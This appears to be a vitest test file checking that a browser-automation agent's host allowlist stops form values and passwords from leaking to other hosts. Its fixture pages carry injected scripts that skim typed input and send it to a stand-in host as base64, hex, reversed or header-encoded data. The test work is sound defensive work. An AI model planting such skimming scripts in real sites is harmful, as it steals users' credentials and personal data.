/** A run with given values reports the hosts outside its allowlist that its pages contacted; no host gets a value. */
import { expect, test } from "vitest";
import { z } from "zod";
import { succeed, useOwnStage, useCredentialsFile } from "../scenarios/support/stage.ts";
import { useModelServer, type ModelRequestSeen } from "../support/model-server.ts";
import { useSite } from "../support/site.ts";
import { done, indexOf, says } from "./support/replies.ts";
import { modelFlags } from "./support/scripted-server.ts";

const VALUE = "Ada Lovelace of Soho";

const PASSWORD = "kestrel & 7 plovers";

/** Sends a complete value from an input field to another host. */
const TELLING = `<script>
  addEventListener("input", ({ target: { value } }) => {
    if (!${JSON.stringify([VALUE, PASSWORD])}.includes(value)) return;
    const other = location.origin.replace("127.0.0.1", "localhost");
    new Image().src = other + "/taken/base64?d=" + btoa(value);
  });
</script>`;

/** A page that sends the entered values to another host in many spellings, and harmless requests, too. */
const LEAKY = `<!doctype html><title>Form</title><h1>Form</h1><input name="name" placeholder="Your name">
  <script>
    const other = location.origin.replace("127.0.0.1", "localhost");
    const load = (path) => { new Image().src = other + path };
    load("/harmless.png");
    document.querySelector("input").addEventListener("input", ({ target: { value } }) => {
      if (value !== ${JSON.stringify(VALUE)}) return;
      load("/taken/plain?d=" + encodeURIComponent(value));
      load("/taken/base64?d=" + btoa(value));
      load("/taken/path/" + encodeURIComponent(encodeURIComponent(value)) + ".png");
      load("/taken/hex?d=" + Array.from(value, (one) => one.charCodeAt(0).toString(16)).join(""));
      load("/taken/backwards?d=" + encodeURIComponent(Array.from(value).reverse().join("")));
      fetch(other + "/by-header", { headers: { "x-name": btoa(value) } }).catch(() => {});
      fetch(other + "/harmless.json").catch(() => {});
    });
  </script>`;

const leaked: string[] = [];
const site = await useSite({
  "/": LEAKY,
  "/login": `<!doctype html><title>Sign in</title><h1>Sign in</h1><form method="post" action="/home"><label>Username <input
    name="user" autocomplete="username"></label><label>Password <input type="password" name="password"
    autocomplete="current-password"></label><button>Sign in</button></form>${TELLING}`,
  "/home": `<!doctype html><title>Account</title><nav><a href="/out">Log out</a></nav><h1>Your account</h1>`,
  "/contact": `<!doctype html><title>Contact</title><h1>Contact</h1><form action="/sent"><label>Your name <input name="name"
    required></label><button>Send</button></form>${TELLING}`,
  "/sent": `<!doctype html><title>Sent</title><h1>Thank you</h1><p>Your message was sent.</p>`,
  "/harmless.png": "",
  "/harmless.json": "{}",
  // The browser's preflight request contains only the header's name, not its value.
  "/by-header": ({ headers }, response) => {
    leaked.push(...(headers["x-name"] ?? ""));
    response.setHeader("access-control-allow-origin", "*");
    response.setHeader("access-control-allow-headers", "x-name").end();
  },
});
const model = await useModelServer();
const values = { username: "ada.example", password: PASSWORD };
const shop = { kind: "username-password", origins: [site.url], values };
const file = useCredentialsFile({ shop });
const { rest } = await useOwnStage([
  ...modelFlags(model.url),
  "--allow-private-network",
  "--credentials-file",
  file,
]);
const host = new URL(site.url).host.replace("127.0.0.1", "localhost");

function fill(request: ModelRequestSeen, number: number): string {
  if (number === 1)
    return says({ input_text: { index: indexOf(request, "Your name"), text: VALUE } });
  return done("The name was entered.", { success: false });
}

const Ended = z.looseObject({
  error: z.looseObject({}),
  result: z.looseObject({ warnings: z.array(z.string()) }),
});

const Learned = z.looseObject({ result: z.looseObject({ schema: z.looseObject({}) }) });
const Warned = z.looseObject({ result: z.looseObject({ warnings: z.array(z.string()) }) });

test("no value leaves by a part of a page, and the hosts that were asked are told", async () => {
  model.say(fill);
  const task = await succeed(rest, "agent.run", {
    intent: "Enter the name",
    url: `${site.url}/`,
    allowed_hosts: ["127.0.0.1"],
    fields: { name: VALUE },
    replay: "never",
  });
  const { warnings } = Ended.parse(task).result;
  expect(warnings).toContainEqual(expect.stringContaining(`not on the list: ${host} (3).`));
  expect(warnings).toContainEqual(expect.stringMatching(/were blocked, .*localhost:\d+ \(6\)\.$/));
  const requested = site.requests.map((path) => path.replace(/\?.*/, ""));
  expect(requested.filter((path) => path.startsWith("/taken"))).toEqual([]);
  expect(leaked).toEqual([]);
  expect(requested).toContain("/harmless.json");
});

const takenSince = (count: number) =>
  site.requests.slice(count).filter((path) => path.startsWith("/taken"));
const STOPPED = expect.stringMatching(/were blocked, .*localhost:\d+/);

test("nor does a secret of a credential", async () => {
  const before = site.requests.length;
  model.say(() => done("Signed in.", { success: false }));
  const task = await succeed(rest, "agent.run", {
    intent: "Look at the account",
    url: `${site.url}/login`,
    allowed_hosts: ["127.0.0.1"],
    credential_id: "shop",
    replay: "never",
  });
  expect(takenSince(before)).toEqual([]);
  expect(site.requests).toContain("/home");
  expect(Ended.parse(task).result.warnings).toContainEqual(STOPPED);
});

test("nor does a value of a row", async () => {
  const form = { url: `${site.url}/contact`, allowed_hosts: ["127.0.0.1"] };
  const learned = await succeed(rest, "form.learn", form);
  const { schema } = Learned.parse(learned).result;
  const before = site.requests.length;
  const batch = { schema, allowed_hosts: ["127.0.0.1"], rows: [{ _rowId: "1", name: VALUE }] };
  const task = await succeed(rest, "form.submit_batch", batch);
  expect(takenSince(before)).toEqual([]);
  expect(site.requests.slice(before)).toContainEqual(expect.stringMatching(/^\/sent\?name=/));
  expect(Warned.parse(task).result.warnings).toContainEqual(STOPPED);
});

test("a run without values tells nothing of other hosts", async () => {
  model.say(() => done("Nothing to do.", { success: false }));
  const task = await succeed(rest, "agent.run", {
    intent: "Look at the page",
    url: `${site.url}/`,
    allowed_hosts: ["127.0.0.1"],
    replay: "never",
  });
  expect(Ended.parse(task).result.warnings.join()).not.toContain("not on the list");
});
